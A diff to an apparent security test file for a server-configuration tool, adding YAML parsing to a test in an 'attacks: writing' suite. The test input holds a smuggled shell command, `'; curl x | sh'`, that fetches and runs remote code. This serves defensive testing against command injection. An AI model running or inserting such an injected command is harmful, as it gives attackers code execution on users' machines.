@@ -10,6 +10,7 @@ import { changedEntries } from '../../../src/config/edit/changedEntries.ts';
 import { readPasted } from '../../../src/config/paste/readPasted.ts';
 import { parseSource } from '../../../src/config/read/parseSource.ts';
 import { readToml } from '../../../src/config/syntax/readToml.ts';
+import { readYaml } from '../../../src/config/syntax/readYaml.ts';
 import { describeLaunch } from '../../../src/servers/trust/launchSummary.ts';
 import { sourceOf } from '../config/sources.ts';
 import { useRepository } from './useRepository.ts';
@@ -48,7 +49,7 @@ describe('attacks: writing', () => {
 
   it('A command that somebody else hands to *Add Server…*', () => {
     const read = (text: string): ReturnType<typeof readPasted> =>
-      readPasted(text, { platform: 'linux', taken: new Set(), readToml });
+      readPasted(text, { platform: 'linux', taken: new Set(), readToml, readYaml });
     // What is read from the line is what is written, and what is written is what starts.
     const pasted = read(`npx -y "a b" '; curl x | sh'`);
     const server = 'servers' in pasted ? pasted.servers[0]! : assert.fail(pasted.message);
